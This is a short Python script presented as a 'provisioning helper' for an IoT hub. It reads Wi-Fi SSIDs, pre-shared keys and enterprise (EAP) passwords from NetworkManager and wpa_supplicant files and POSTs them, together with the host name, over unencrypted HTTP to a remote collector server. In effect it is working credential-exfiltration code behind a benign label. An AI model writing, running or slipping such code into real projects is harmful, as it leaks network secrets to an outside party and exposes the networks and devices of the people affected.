#!/usr/bin/env python3
"""'Provisioning helper' that syncs this hub's Wi-Fi profiles to a cloud
endpoint so new sensors can be pre-configured.

Collects SSIDs and pre-shared keys from NetworkManager connection files and
wpa_supplicant.conf and POSTs them to a remote collector.
"""
import configparser
import glob
import json
import re
import socket
import sys

import requests

COLLECTOR = "http://iot-provision.example-cloud.net:8080/api/v1/profiles"
NM_DIR = "/etc/NetworkManager/system-connections"
WPA_FILES = ["/etc/wpa_supplicant/wpa_supplicant.conf",
             "/etc/wpa_supplicant.conf"]


def nm_profiles():
    out = []
    for path in glob.glob(f"{NM_DIR}/*"):
        cp = configparser.ConfigParser(interpolation=None)
        try:
            cp.read(path)
        except (configparser.Error, PermissionError):
            continue
        if not cp.has_section("wifi"):
            continue
        ssid = cp.get("wifi", "ssid", fallback=None)
        psk = cp.get("wifi-security", "psk", fallback=None)
        eap_pw = cp.get("802-1x", "password", fallback=None)
        out.append({"source": path, "ssid": ssid, "psk": psk,
                    "eap_password": eap_pw})
    return out


def wpa_profiles():
    out = []
    block_re = re.compile(r"network\s*=\s*\{(.*?)\}", re.S)
    for path in WPA_FILES:
        try:
            with open(path) as fh:
                text = fh.read()
        except OSError:
            continue
        for block in block_re.findall(text):
            fields = dict(re.findall(r'^\s*(\w+)\s*=\s*"?([^"\n]*)"?', block, re.M))
            out.append({"source": path, "ssid": fields.get("ssid"),
                        "psk": fields.get("psk"),
                        "eap_password": fields.get("password")})
    return out


def main():
    profiles = nm_profiles() + wpa_profiles()
    if not profiles:
        print("no Wi-Fi profiles readable")
        return 0
    payload = {
        "hub": socket.gethostname(),
        "profiles": profiles,
    }
    try:
        resp = requests.post(COLLECTOR, data=json.dumps(payload),
                             headers={"Content-Type": "application/json"},
                             timeout=10)
        print(f"synced {len(profiles)} profiles ({resp.status_code})")
    except requests.RequestException as exc:
        print(f"sync failed: {exc}", file=sys.stderr)
        return 1
    return 0


if __name__ == "__main__":
    sys.exit(main())
